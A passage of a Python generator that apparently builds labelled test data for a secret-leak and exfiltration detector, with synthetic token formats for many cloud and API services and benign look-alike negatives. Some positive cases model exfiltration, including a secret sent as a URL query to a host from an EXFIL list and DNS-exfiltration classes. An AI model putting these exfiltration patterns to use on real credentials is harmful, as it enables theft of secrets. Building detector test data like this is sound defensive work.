        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=secret, ops=["dehex"])
    if k == 1:
        s = "%s INFO crypto: loaded %s=%s (len=%d)\n" % (iso_ts(), name, d, len(key))
        return mkcase("positive", c["name"], "body", s, "text/plain", secret=secret, ops=["dehex"], cenc=maybe_cenc())
    if k == 2:
        s = "security:\n  %s: \"%s\"\n  rotate_days: 90\n" % (name.lower(), d)
        return mkcase("positive", c["name"], "body", s, "application/yaml", secret=secret, ops=["dehex"])
    if k == 3:
        o = {"channel": "#sec", "text": "the %s bytes are %s - keep it safe" % (name, d)}
        return mkcase("positive", c["name"], "body", J(o), "application/json", secret=secret, ops=["dehex"])
    if k == 4:
        u = "https://%s/k?%s=%s" % (pick(EXFIL), name.lower(), quote(d, safe=""))
        return mkcase("positive", c["name"], "url", u, secret=secret, ops=["pct", "dehex"])
    s = "%s = b\"%s\"\n" % (name, "".join("\\x" + h for h in hx))
    o = {"jsonrpc": "2.0", "id": 3, "method": "tools/call", "params": {"name": "write_file", "arguments": {"path": "keys.py", "content": s}}}
    return mkcase("positive", c["name"], "body", J(o), "application/json", secret=secret, ops=["dehex"])


def b_jwt(c):
    return token_case(c)


# ---------------------------------------------------------------- class table
BEARER = ["Authorization: Bearer {v}"]


def C(name, n, gen, env, host, hdr=None, wh=(6, 2, 2), **kw):
    d = {"name": name, "n": n, "gen": gen, "env": env, "key": env.lower(), "host": host,
         "hdr": hdr or ["Authorization: Bearer {v}", "X-API-Key: {v}"], "wh": wh}
    d.update(kw)
    return d


CLASSES = [
    C("github-pat", 12, lambda: gh("ghp_"), "GITHUB_TOKEN", "api.github.com", ["Authorization: token {v}", "Authorization: Bearer {v}"],
      url=["https://x-access-token:{q}@github.com/acme/private-repo.git", "https://api.github.com/user?access_token={q}"]),
    C("github-oauth-token", 4, lambda: gh("gho_"), "GH_OAUTH_TOKEN", "api.github.com", ["Authorization: token {v}", "Authorization: Bearer {v}"]),
    C("github-app-token", 5, lambda: gh(pick(["ghs_", "ghu_", "ghr_"])), "GITHUB_APP_TOKEN", "api.github.com", ["Authorization: token {v}", "Authorization: Bearer {v}"]),
    C("github-fine-grained-pat", 5, lambda: "github_pat_" + rs(ALNUM, 22) + "_" + rs(ALNUM, 59), "GH_PAT", "api.github.com", ["Authorization: Bearer {v}"]),
    C("gitlab-pat", 5, lambda: "glpat-" + rs(B64U, 20), "GITLAB_TOKEN", "gitlab.com", ["PRIVATE-TOKEN: {v}", "Authorization: Bearer {v}"],
      url=["https://gitlab.com/api/v4/projects?private_token={q}", "https://oauth2:{q}@gitlab.com/group/app.git"]),
    C("gitlab-runner-token", 4, lambda: pick(["glrt-" + rs(B64U, 20), "GR1348941" + rs(B64U, 20)]), "CI_RUNNER_TOKEN", "gitlab.com", ["PRIVATE-TOKEN: {v}"], wh=(8, 1, 1)),
    C("slack-bot-token", 5, lambda: "xoxb-%d-%d-%s" % (ri(10 ** 10, 10 ** 12), ri(10 ** 11, 10 ** 13), rs(ALNUM, 24)), "SLACK_BOT_TOKEN", "slack.com", BEARER,
      url=["https://slack.com/api/chat.postMessage?token={q}&channel=C024BE91L&text=hi"]),
    C("slack-user-token", 4, lambda: "xoxp-%d-%d-%d-%s" % (ri(10 ** 10, 10 ** 12), ri(10 ** 10, 10 ** 12), ri(10 ** 12, 10 ** 13), rs(HEXL, 32)), "SLACK_USER_TOKEN", "slack.com", BEARER),
    C("slack-webhook-url", 5, None, "", "hooks.slack.com", builder=b_slack_webhook),
    C("discord-webhook-url", 4, None, "", "discord.com", builder=b_discord_webhook),
    C("telegram-bot-token", 5, None, "TELEGRAM_BOT_TOKEN", "api.telegram.org", builder=b_telegram),
    C("stripe-secret-key", 9, g_stripe, "STRIPE_SECRET_KEY", "api.stripe.com", BEARER),
    C("stripe-restricted-key", 4, lambda: "rk_live_" + rs(ALNUM, 99), "STRIPE_RESTRICTED_KEY", "api.stripe.com", BEARER),
    C("stripe-webhook-secret", 4, lambda: "whsec_" + rs(ALNUM, 32), "STRIPE_WEBHOOK_SECRET", "api.stripe.com", ["X-Webhook-Secret: {v}"], wh=(8, 1, 1)),
    C("openai-api-key", 11, g_openai, "OPENAI_API_KEY", "api.openai.com", BEARER),
    C("anthropic-api-key", 10, g_anthropic, "ANTHROPIC_API_KEY", "api.anthropic.com", ["x-api-key: {v}", "Authorization: Bearer {v}"]),
    C("huggingface-token", 5, lambda: "hf_" + rs(ALNUM, 34), "HF_TOKEN", "huggingface.co", BEARER),
    C("groq-api-key", 4, lambda: "gsk_" + rs(ALNUM, 52), "GROQ_API_KEY", "api.groq.com", BEARER),
    C("openrouter-api-key", 4, lambda: "sk-or-v1-" + rs(HEXL, 64), "OPENROUTER_API_KEY", "openrouter.ai", BEARER),
    C("replicate-api-token", 3, lambda: "r8_" + rs(ALNUM, 37), "REPLICATE_API_TOKEN", "api.replicate.com", ["Authorization: Token {v}", "Authorization: Bearer {v}"]),
    C("aws-access-key-id", 8, g_aws_id, "AWS_ACCESS_KEY_ID", "sts.amazonaws.com",
      ["Authorization: AWS4-HMAC-SHA256 Credential={v}/20250114/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + "0f3c9a" * 10 + "beef"],
      url=["https://acme-backups.s3.amazonaws.com/db.sql.gz?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={q}%2F20250114%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20250114T101500Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=" + "9ad1c2" * 10 + "cafe"],
      body=GENERIC_BODY + [t_aws_creds] * 6),
    C("aws-secret-access-key", 8, g_aws_secret, "AWS_SECRET_ACCESS_KEY", "sts.amazonaws.com", ["X-Amz-Secret-Key: {v}"], wh=(10, 1, 1),
      qp=["aws_secret_access_key", "secret_key"], body=GENERIC_BODY + [t_aws_creds] * 6),
    C("aws-session-token", 4, g_aws_session, "AWS_SESSION_TOKEN", "sts.amazonaws.com", ["X-Amz-Security-Token: {v}"], wh=(6, 3, 1),
      qp=["X-Amz-Security-Token"], body=GENERIC_BODY + [t_aws_creds] * 4),
    C("azure-storage-connection-string", 5, g_azure_conn, "AZURE_STORAGE_CONNECTION_STRING", "management.azure.com", wh=(9, 0, 1), qp=["connection_string"]),
    C("azure-sas-token", 5, None, "", "", builder=b_azure_sas),
    C("azure-client-secret", 4, lambda: rs(ALNUM, 3) + "8Q~" + rs(ALNUM + "_.~-", 34), "AZURE_CLIENT_SECRET", "login.microsoftonline.com", wh=(8, 0, 2),
      qp=["client_secret"], body=GENERIC_BODY + [t_az_token_form] * 4),
    C("gcp-api-key", 6, lambda: "AIza" + rs(B64U, 35), "GOOGLE_API_KEY", "generativelanguage.googleapis.com", ["X-Goog-Api-Key: {v}"],
      url=["https://maps.googleapis.com/maps/api/geocode/json?address=Berlin&key={q}", "https://generativelanguage.googleapis.com/v1beta/models/gemini-1.5-flash:generateContent?key={q}"]),
    C("gcp-oauth-client-secret", 4, lambda: "GOCSPX-" + rs(B64U, 28), "GOOGLE_CLIENT_SECRET", "oauth2.googleapis.com", wh=(8, 0, 2), qp=["client_secret"],
      body=GENERIC_BODY + [t_google_oauth_json] * 5),
    C("google-oauth-access-token", 4, lambda: "ya29." + rs(B64U, ri(120, 180)), "GOOGLE_ACCESS_TOKEN", "www.googleapis.com", BEARER, qp=["access_token"]),
    C("npm-token", 5, lambda: "npm_" + rs(ALNUM, 36), "NPM_TOKEN", "registry.npmjs.org", BEARER, body=GENERIC_BODY + [t_npmrc] * 5),
    C("pypi-token", 4, lambda: "pypi-AgEIcHlwaS5vcmc" + rs(B64U, ri(60, 140)), "PYPI_API_TOKEN", "upload.pypi.org", BEARER, body=GENERIC_BODY + [t_pypirc] * 5),
    C("docker-hub-pat", 4, lambda: "dckr_pat_" + rs(B64U, 27), "DOCKERHUB_TOKEN", "hub.docker.com", BEARER, body=GENERIC_BODY + [t_docker_login] * 5),
    C("rubygems-api-key", 3, lambda: "rubygems_" + rs(HEXL, 48), "GEM_HOST_API_KEY", "rubygems.org", ["Authorization: {v}"]),
    C("datadog-api-key", 4, lambda: rs(HEXL, 32), "DD_API_KEY", "api.datadoghq.com", ["DD-API-KEY: {v}"], qp=["api_key", "dd-api-key"]),
    C("new-relic-api-key", 4, lambda: "NRAK-" + rs(UPNUM, 27), "NEW_RELIC_API_KEY", "api.newrelic.com", ["Api-Key: {v}", "X-Api-Key: {v}"]),
    C("sentry-auth-token", 3, lambda: "sntryu_" + rs(HEXL, 64), "SENTRY_AUTH_TOKEN", "sentry.io", BEARER),
    C("grafana-service-account-token", 3, lambda: "glsa_" + rs(ALNUM, 32) + "_" + rs(HEXL, 8), "GRAFANA_TOKEN", "grafana.acme-observability.net", BEARER),
    C("planetscale-token", 3, lambda: pick(["pscale_tkn_", "pscale_pw_"]) + rs(B64U, 43), "PLANETSCALE_TOKEN", "api.planetscale.com", BEARER),
    C("supabase-access-token", 3, lambda: "sbp_" + rs(HEXL, 40), "SUPABASE_ACCESS_TOKEN", "api.supabase.com", BEARER),
    C("databricks-token", 4, lambda: "dapi" + rs(HEXL, 32) + pick(["", "-2", "-3"]), "DATABRICKS_TOKEN", "adb-4412873319012245.5.azuredatabricks.net", BEARER),
    C("digitalocean-token", 4, lambda: pick(["dop_v1_", "doo_v1_"]) + rs(HEXL, 64), "DIGITALOCEAN_TOKEN", "api.digitalocean.com", BEARER),
    C("vault-token", 4, lambda: pick(["hvs.", "hvb."]) + rs(B64U, ri(90, 100)), "VAULT_TOKEN", "vault.acme.internal", ["X-Vault-Token: {v}"], body=GENERIC_BODY + [t_vault] * 5),
    C("doppler-token", 3, lambda: pick(["dp.pt.", "dp.st.prd."]) + rs(ALNUM, 43), "DOPPLER_TOKEN", "api.doppler.com", BEARER),
    C("terraform-cloud-token", 3, lambda: rs(ALNUM, 14) + ".atlasv1." + rs(ALNUM, 67), "TFE_TOKEN", "app.terraform.io", BEARER),
    C("heroku-api-key", 3, lambda: "HRKU-AA" + rs(B64U, 58), "HEROKU_API_KEY", "api.heroku.com", BEARER),
    C("shopify-access-token", 4, lambda: pick(["shpat_", "shpss_", "shpca_"]) + rs(HEXL, 32), "SHOPIFY_ACCESS_TOKEN", "acme-store.myshopify.com", ["X-Shopify-Access-Token: {v}"]),
    C("twilio-auth-token", 3, lambda: rs(HEXL, 32), "TWILIO_AUTH_TOKEN", "api.twilio.com", wh=(1, 0, 0), body=GENERIC_BODY + [t_twilio] * 6),
    C("sendgrid-api-key", 4, lambda: "SG." + rs(B64U, 22) + "." + rs(B64U, 43), "SENDGRID_API_KEY", "api.sendgrid.com", BEARER),
    C("mailgun-api-key", 3, lambda: "key-" + rs(HEXL, 32), "MAILGUN_API_KEY", "api.mailgun.net", wh=(1, 0, 0), body=GENERIC_BODY + [t_mailgun] * 6),
    C("postman-api-key", 3, lambda: "PMAK-" + rs(HEXL, 24) + "-" + rs(HEXL, 34), "POSTMAN_API_KEY", "api.getpostman.com", ["X-Api-Key: {v}"]),
    C("linear-api-key", 3, lambda: "lin_api_" + rs(ALNUM, 40), "LINEAR_API_KEY", "api.linear.app", ["Authorization: {v}"]),
    C("atlassian-api-token", 3, lambda: "ATATT3xFfGF0" + rs(B64U, 170) + "=" + rs(HEXL.upper(), 8), "JIRA_API_TOKEN", "acme.atlassian.net", wh=(9, 0, 1)),
    C("notion-token", 3, lambda: pick(["ntn_" + rs(DIG, 11) + rs(ALNUM, 35), "secret_" + rs(ALNUM, 43)]), "NOTION_TOKEN", "api.notion.com", BEARER),
    C("jwt", 10, g_jwt, "SESSION_TOKEN", "api.%s.com" % "acme", ["Authorization: Bearer {v}", "Cookie: theme=dark; access_token={v}", "X-Auth-Token: {v}"],
      wh=(4, 4, 2), qp=["id_token", "access_token", "jwt"]),
    C("http-basic-auth", 10, None, "", "", builder=b_basic),
    C("bearer-token", 10, lambda: pick([rs(ALNUM, 40), rs(B64U, 64), rs(ALNUM, 56)]), "API_BEARER_TOKEN", "api.internal-tools.acme.com", BEARER, wh=(3, 6, 1),
      body=[t_curl_tool, t_mcp_http, t_log, t_python]),
    C("database-url-password", 10, None, "", "", builder=b_dburl),
    C("url-userinfo-password", 8, None, "", "", builder=b_userinfo),
    C("generic-api-key", 10, g_generic_key, "API_KEY", "api.vendor-cloud.io", ["X-API-Key: {v}", "api-key: {v}", "Ocp-Apim-Subscription-Key: {v}", "X-Auth-Key: {v}"],
      qp=["api_key", "apikey", "secret_key"]),
    C("password-field", 12, None, "", "", builder=b_password),
    C("payment-card", 16, None, "", "", builder=b_card),
    C("iban", 12, None, "", "", builder=b_iban),
    C("bitcoin-address", 12, None, "", "", builder=b_btc),
    C("ethereum-address", 8, None, "", "", builder=b_eth),
    C("dns-exfiltration", 16, None, "", "", builder=b_dns),
    C("high-entropy-exfiltration", 12, None, "", "", builder=b_entropy),
    C("delimited-hex-secret", 10, None, "", "", builder=b_dehex),
]

GENERIC_ENVS = {"generic-api-key": ["MISTRAL_API_KEY", "COHERE_API_KEY", "API_KEY", "ELEVENLABS_API_KEY", "PINECONE_API_KEY", "ALGOLIA_ADMIN_KEY", "SECRET_KEY"]}


def build_positive(c):
    if c.get("builder"):
        return c["builder"](c)
    if c["name"] in GENERIC_ENVS:
        env = pick(GENERIC_ENVS[c["name"]])
        c = dict(c, env=env, key=env.lower())
    return token_case(c)


# ================================================================ negatives
API_HOSTS = ["api.github.com", "api.openai.com", "registry.npmjs.org", "pypi.org", "api.stripe.com", "www.googleapis.com",
             "graph.microsoft.com", "api.notion.com", "slack.com", "api.anthropic.com", "api.linear.app", "hub.docker.com"]


def neg(cat, where, payload, ctype=None, cenc=None):
    return mkcase("negative", cat, where, payload, ctype, cenc=cenc)


def n_uuid():
    k = ri(0, 3)
    if k == 0:
        return neg("uuid", "url", "https://api.%s.com/v2/projects/%s/runs/%s" % (pick(ORGS).replace("-", ""), uuid4(), uuid4()))
    if k == 1:
        return neg("uuid", "header", "%s: %s" % (pick(["X-Request-ID", "Idempotency-Key", "X-Correlation-ID"]), uuid4()))
    if k == 2:
        o = {"id": uuid4(), "parent_id": uuid4(), "items": [{"sku_id": uuid4(), "qty": ri(1, 5)} for _ in range(ri(1, 3))], "created_at": iso_ts()}
        return neg("uuid", "body", J(o), "application/json")
    return neg("uuid", "url", "https://%s.atlassian.net/rest/api/3/workspace/%s/objects?page=%d" % (pick(ORGS), uuid4(), ri(1, 9)))


def n_gitsha():
    o, r, sha = pick(ORGS), pick(REPOS), rs(HEXL, 40)
    k = ri(0, 4)
    if k == 0:
        return neg("git-sha", "url", "https://api.github.com/repos/%s/%s/commits/%s" % (o, r, sha))
    if k == 1:
        return neg("git-sha", "url", "https://github.com/%s/%s/blob/%s/%s" % (o, r, sha, pick(["src/main.py", "README.md", "go.mod"])))
    if k == 2:
        d = {"sha": sha, "tree": {"sha": rs(HEXL, 40)}, "parents": [{"sha": rs(HEXL, 40)}], "message": pick(["fix typo in docs", "bump deps", "refactor parser"])}
        return neg("git-sha", "body", J(d), "application/json")
    if k == 3:
        s = "\n".join("%s %s" % (rs(HEXL, 40), pick(["Merge pull request #%d" % ri(10, 999), "chore: lint", "feat: add retries"])) for _ in range(ri(3, 6)))
        o2 = {"tool_output": s}
        return neg("git-sha", "body", J(o2), "application/json")
    return neg("git-sha", "header", "If-None-Match: \"%s\"" % sha)


def n_digest():
    k = ri(0, 4)
    if k == 0:
        return neg("content-digest", "url", "https://registry-1.docker.io/v2/library/%s/blobs/sha256:%s" % (pick(["nginx", "python", "redis"]), rs(HEXL, 64)))
    if k == 1:
        return neg("content-digest", "header", pick(["Digest: sha-256=%s" % b64(rb(32)), "Content-Digest: sha-256=:%s:" % b64(rb(32)), "x-amz-content-sha256: %s" % rs(HEXL, 64)]))
    if k == 2:
        s = "\n".join("%s  %s" % (rs(HEXL, 64), f) for f in ["app-linux-amd64.tar.gz", "app-darwin-arm64.tar.gz", "app-windows.zip"]) + "\n"
        return neg("content-digest", "body", s, "text/plain")
    if k == 3:
        o = {"name": pick(REPOS), "version": "1.%d.%d" % (ri(0, 9), ri(0, 20)), "dist": {"shasum": rs(HEXL, 40), "tarball": "https://registry.npmjs.org/x/-/x-1.0.0.tgz"}}
        return neg("content-digest", "body", J(o), "application/json")
    return neg("content-digest", "header", "ETag: \"%s\"" % rs(HEXL, 32))


def n_asset():
    h = pick(["shop", "app", "www", "docs"]) + "." + pick(ORGS) + ".com"
    p = pick(["/assets/index-%s.js" % rs(B64U, 8), "/_next/static/chunks/pages/_app-%s.js" % rs(HEXL, 16),
              "/static/css/main.%s.css" % rs(HEXL, 8), "/static/js/%d.%s.chunk.js" % (ri(100, 999), rs(HEXL, 8)),
              "/dist/vendor.%s.bundle.js" % rs(HEXL, 20), "/_nuxt/%s.js" % rs(B64U, 8), "/build/_shared/chunk-%s.js" % rs(UPNUM, 8)])
    return neg("hashed-asset-path", "url", "https://%s%s" % (h, p))


def n_docid():
    k = ri(0, 5)
    if k == 0:
        u = "https://docs.google.com/document/d/1%s/edit" % rs(B64U, 43)
    elif k == 1:
        u = "https://drive.google.com/file/d/1%s/view?usp=sharing" % rs(B64U, 32)
    elif k == 2:
        u = "https://www.notion.so/%s-%s" % ("-".join(pick(WORDS).title() for _ in range(3)), rs(HEXL, 32))
    elif k == 3:
        u = "https://www.figma.com/file/%s/%s?node-id=%d-%d" % (rs(ALNUM, 22), pick(WORDS).title(), ri(1, 99), ri(1, 999))
    elif k == 4:
        u = "https://api.airtable.com/v0/app%s/tbl%s?view=viw%s" % (rs(ALNUM, 14), rs(ALNUM, 14), rs(ALNUM, 14))
    else:
        u = "https://sheets.googleapis.com/v4/spreadsheets/1%s/values/Sheet1!A1:D50" % rs(B64U, 43)
        u = u.replace("!", "%21").replace(":", "%3A", 1) if False else u.replace("!", "%21")
    return neg("cloud-document-id", "url", u)


def png_bytes(w, h):
    def chunk(t, d):
        return len(d).to_bytes(4, "big") + t + d + zlib.crc32(t + d).to_bytes(4, "big")
    raw = b"".join(b"\x00" + rb(w * 3) for _ in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", w.to_bytes(4, "big") + h.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00") + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def n_image():
    img = b64(png_bytes(ri(2, 6), ri(2, 6)))
    k = ri(0, 2)
    if k == 0:
        o = {"model": "gpt-4o", "messages": [{"role": "user", "content": [{"type": "text", "text": "What is in this icon?"},
                                                                        {"type": "image_url", "image_url": {"url": "data:image/png;base64," + img}}]}]}
    elif k == 1:
        o = {"model": "claude-sonnet-4-20250514", "max_tokens": 256, "messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": img}}, {"type": "text", "text": "Describe the colours."}]}]}
    else:
        o = {"name": "avatar.png", "image": img, "mime_type": "image/png"}
    return neg("base64-image", "body", J(o), "application/json")


def n_cursor():
    k = ri(0, 4)
    cur = b64u(J({"id": ri(1000, 999999), "ts": iso_ts()}))
    if k == 0:
        return neg("pagination-cursor", "url", "https://api.%s.com/v1/events?limit=100&cursor=%s" % (pick(ORGS).replace("-", ""), cur))
    if k == 1:
        return neg("pagination-cursor", "url", "https://www.googleapis.com/drive/v3/files?pageSize=50&pageToken=%s" % rs(B64U, ri(40, 90)))
    if k == 2:
        o = {"ok": True, "members": [], "response_metadata": {"next_cursor": b64("user:U0%s" % rs(UPNUM, 8))}}
        return neg("pagination-cursor", "body", J(o), "application/json")
    if k == 3:
        o = {"query": "query($after:String){ repository(owner:\"o\",name:\"r\"){ issues(first:50, after:$after){ nodes{ title } } } }",
             "variables": {"after": b64("cursor:v2:" + b64(rb(12)))}}
        return neg("pagination-cursor", "body", J(o), "application/json")
    o = {"data": [{"id": i} for i in range(3)], "nextPageToken": rs(B64U, 48), "continuation": rs(B64U, 24)}
    return neg("pagination-cursor", "body", J(o), "application/json")


def n_sri():
    if chance(0.6):
        s = "<!doctype html><html><head>\n<script src=\"https://cdn.jsdelivr.net/npm/%s@%d.%d.%d/dist/%s.min.js\" integrity=\"sha384-%s\" crossorigin=\"anonymous\"></script>\n</head><body></body></html>" % (
            pick(["bootstrap", "alpinejs", "htmx.org", "chart.js"]), ri(1, 5), ri(0, 9), ri(0, 9), pick(["bundle", "index", "cdn"]), b64(rb(48)))
        o = {"path": "public/index.html", "content": s}
        return neg("sri-hash", "body", J(o), "application/json")
    o = {"lockfileVersion": 3, "packages": {"node_modules/%s" % pick(["lodash", "react", "zod", "chalk"]): {"version": "4.%d.%d" % (ri(0, 20), ri(0, 9)),
                                                                                                          "resolved": "https://registry.npmjs.org/x/-/x-4.1.0.tgz", "integrity": "sha512-" + b64(rb(64))}}}
    return neg("sri-hash", "body", J(o, None, 2), "application/json")


def ssh_pub():
    k = ri(0, 2)

    def s(b):
        return len(b).to_bytes(4, "big") + b
    if k == 0:
        return "ssh-ed25519 " + b64(s(b"ssh-ed25519") + s(rb(32)))
    if k == 1:
        n = b"\x00" + bytes([0x80 | R.randrange(128)]) + rb(255)
        return "ssh-rsa " + b64(s(b"ssh-rsa") + s(b"\x01\x00\x01") + s(n))
    return "ecdsa-sha2-nistp256 " + b64(s(b"ecdsa-sha2-nistp256") + s(b"nistp256") + s(b"\x04" + rb(64)))


def n_ssh():
    key = ssh_pub() + " %s@%s" % (pick(FIRST), pick(["laptop", "workstation", "ci"]))
    k = ri(0, 2)
    if k == 0:
        return neg("ssh-public-key", "body", J({"title": "%s laptop" % pick(FIRST), "key": key}), "application/json")
    if k == 1:
        return neg("ssh-public-key", "body", "#cloud-config\nusers:\n  - name: deploy\n    ssh_authorized_keys:\n      - %s\n" % key, "text/cloud-config")
    return neg("ssh-public-key", "body", key + "\n", "text/plain")


def n_masked():
    m = pick(["sk_live_" + "•" * ri(8, 20) + rs(ALNUM, 4), "ghp_" + "*" * 32 + rs(ALNUM, 4), "AKIA" + "*" * 12 + rs(UPP, 4),
              "xoxb-****-****-" + "*" * 10, "sk-ant-…" + rs(ALNUM, 4), "**** **** **** %s" % rs(DIG, 4),
              "DE89 •••• •••• •••• %s" % rs(DIG, 4), "********", "glpat-…" + rs(ALNUM, 3), "sk-proj-" + "*" * 20])
    k = ri(0, 3)
    if k == 0:
        return neg("masked-secret", "body", J({"integrations": [{"provider": pick(["stripe", "github", "aws", "slack"]), "key_preview": m, "last_used": iso_ts()}]}), "application/json")
    if k == 1:
        return neg("masked-secret", "body", "%s INFO using credentials %s for upstream %s\n" % (iso_ts(), m, pick(API_HOSTS)), "text/plain")
    if k == 2:
        return neg("masked-secret", "header", "X-Key-Fingerprint: %s" % m.replace("•", "*").replace("…", "..."))
    return neg("masked-secret", "body", J({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "My dashboard shows %s - is that the right key type?" % m}]}), "application/json")


def n_placeholder():
    env = pick(["OPENAI_API_KEY", "STRIPE_SECRET_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "SLACK_BOT_TOKEN"])
    ph = pick(["${%s}" % env, "<your-api-key>", "{{ secrets.%s }}" % env, "{{ .Values.apiKey }}", "<REDACTED>", "sk-...", "sk_live_...",
               "${{ secrets.%s }}" % env, "<paste token here>", "%%(%s)s" % env.lower(), "[REDACTED]", "<%s>" % env])
    k = ri(0, 3)
    if k == 0:
        return neg("placeholder-secret", "body", "%s=%s\nPORT=8080\n" % (env, ph), "text/plain")
    if k == 1:
        return neg("placeholder-secret", "body", J({"api_key": ph, "model": "gpt-4o"}), "application/json")
    if k == 2:
        return neg("placeholder-secret", "header", "Authorization: Bearer %s" % ph.replace(" ", ""))
    return neg("placeholder-secret", "body", "env:\n  %s: \"%s\"\n" % (env, ph), "application/yaml")


PROSE = ["Never paste your API key into a chat; rotate it immediately if you did.",
         "Bitte speichern Sie Ihr Passwort niemals im Klartext und aktivieren Sie die Zwei-Faktor-Authentifizierung.",
         "Ne partagez jamais votre jeton d'accès ; révoquez-le depuis les paramètres du compte.",
         "No compartas tu clave secreta de Stripe; usa variables de entorno en su lugar.",
         "Nunca faça commit de credenciais no repositório; use um gerenciador de segredos.",
         "Non inserire mai la password nel codice sorgente.",
         "APIキーは環境変数に保存し、リポジトリにコミットしないでください。",
         "请不要在日志中打印访问令牌，并定期轮换密钥。",
         "Никогда не публикуйте токены доступа в открытом репозитории.",
         "비밀번호와 API 키는 비밀 관리자에 저장하세요.",
         "Sla je wachtwoord nooit op in platte tekst.",
         "How do I rotate the AWS secret access key for the CI user without downtime?",
         "The token expired, so I generated a new personal access token with repo scope."]


def n_prose():
    t = " ".join(R.sample(PROSE, ri(1, 3)))
    k = ri(0, 2)
    if k == 0:
        return neg("secret-prose", "body", J({"model": "gpt-4o", "messages": [{"role": "user", "content": t}]}, None), "application/json")
    if k == 1:
        return neg("secret-prose", "body", J({"channel": "#security", "text": t}), "application/json; charset=utf-8")
    return neg("secret-prose", "body", J({"body": t}), "application/json")


def n_coderef():
    env = pick(["STRIPE_SECRET_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY", "DATABASE_URL", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY"])
    s = pick(["import os\napi_key = os.environ[\"%s\"]\nclient = Client(api_key=api_key)\n" % env,
              "const token = process.env.%s;\nif (!token) throw new Error('missing %s');\n" % (env, env),
              "env:\n  %s: ${{ secrets.%s }}\n" % (env, env),
              "- name: %s\n  valueFrom:\n    secretKeyRef:\n      name: app-secrets\n      key: %s\n" % (env, env.lower()),
              "key := os.Getenv(\"%s\")\nif key == \"\" {\n\tlog.Fatal(\"%s not set\")\n}\n" % (env, env),
              "variable \"%s\" {\n  type      = string\n  sensitive = true\n}\n" % env.lower()])
    if chance(0.5):
        return neg("code-secret-reference", "body", J({"path": "src/config", "content": s}), "application/json")
    return neg("code-secret-reference", "body", s, "text/plain")


def n_luhnbad():
    while True:
        n = pick(["4", "5" + str(ri(1, 5)), "37", "6011"]) + rs(DIG, 12)
        n = n[:16] if not n.startswith("37") else n[:15]
        if not luhn_ok(n):
            break
    k = ri(0, 2)
    if k == 0:
        return neg("luhn-invalid-number", "body", J({"shipment": {"tracking_number": n, "carrier": pick(["DHL", "UPS"]), "status": "in_transit"}}), "application/json")
    if k == 1:
        return neg("luhn-invalid-number", "url", "https://track.%s.com/status?ref=%s" % (pick(["parcelhub", "shipnow"]), n))
    return neg("luhn-invalid-number", "body", "member_id,points\n%s,%d\n" % (n, ri(10, 9000)), "text/csv")


def n_phone():
    ph = pick(["+1415555%04d" % ri(0, 9999), "+44 20 7946 %04d" % ri(0, 9999), "+49 30 %08d" % ri(0, 99999999), "+81 3-%04d-%04d" % (ri(0, 9999), ri(0, 9999)), "(212) 555-%04d" % ri(0, 9999)])
    k = ri(0, 2)
    if k == 0:
        return neg("phone-number", "body", "To=%s&From=%s&Body=%s" % (quote_plus(ph), quote_plus("+1628555%04d" % ri(0, 9999)), quote_plus("Your table is ready")), "application/x-www-form-urlencoded")
    if k == 1:
        return neg("phone-number", "body", J({"contact": {"name": " ".join(person()), "phone": ph, "email": email()}}), "application/json")
    return neg("phone-number", "url", "https://api.%s.com/v1/lookup?number=%s" % (pick(["numverify", "phonecheck"]), quote(ph, safe="")))


def isbn13():
    b = "978" + rs(DIG, 9)
    s = sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(b))
    return b + str((10 - s % 10) % 10)


def n_isbn():
    i = isbn13()
    k = ri(0, 2)
    if k == 0:
        return neg("isbn", "url", "https://openlibrary.org/isbn/%s.json" % i)
    if k == 1:
        return neg("isbn", "body", J({"title": pick(WORDS).title() + " " + pick(WORDS).title(), "isbn_13": "%s-%s-%s-%s-%s" % (i[:3], i[3], i[4:8], i[8:12], i[12])}), "application/json")
    return neg("isbn", "url", "https://www.googleapis.com/books/v1/volumes?q=isbn:%s" % i)


def n_order():
    o = pick(["ORD-%d-%08d" % (ri(2023, 2025), ri(0, 99999999)), "%03d-%07d-%07d" % (ri(100, 999), ri(0, 9999999), ri(0, 9999999)),
              "#%d" % ri(1001, 99999), "INV-%06d" % ri(0, 999999), "PO%010d" % ri(0, 9999999999)])
    k = ri(0, 2)
    if k == 0:
        return neg("order-number", "body", J({"order_number": o, "status": "shipped", "total": "%d.%02d" % (ri(5, 900), ri(0, 99)), "currency": "USD"}), "application/json")
    if k == 1:
        return neg("order-number", "url", "https://shop.%s.com/account/orders/%s" % (pick(ORGS), quote(o, safe="")))
    return neg("order-number", "body", "Hi, my order %s never arrived, can you check?" % o, "text/plain")


def n_timestamp():
    t = ri(1700000000, 1765000000)
    k = ri(0, 3)
    if k == 0:
        return neg("timestamp", "body", J({"ts_ms": t * 1000 + ri(0, 999), "ts_ns": t * 10 ** 9 + ri(0, 10 ** 9 - 1), "iso": iso_ts()}), "application/json")
    if k == 1:
        return neg("timestamp", "header", "If-Modified-Since: %s, %02d %s 2025 %02d:%02d:%02d GMT" % (pick(["Mon", "Tue", "Wed"]), ri(1, 28), pick(["Jan", "Mar", "Jul"]), ri(0, 23), ri(0, 59), ri(0, 59)))
    if k == 2:
        return neg("timestamp", "url", "https://api.%s.com/v1/metrics?since=%d&until=%d&step=60" % (pick(ORGS).replace("-", ""), t, t + 3600))
    return neg("timestamp", "body", "%d %s\n%d %s\n" % (t, pick(WORDS), t + ri(1, 99), pick(WORDS)), "text/plain")


def n_version():
    k = ri(0, 3)
    if k == 0:
        return neg("version-string", "header", "User-Agent: %s" % pick(["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/537.36" % (ri(110, 131), ri(1000, 6999), ri(10, 200)),
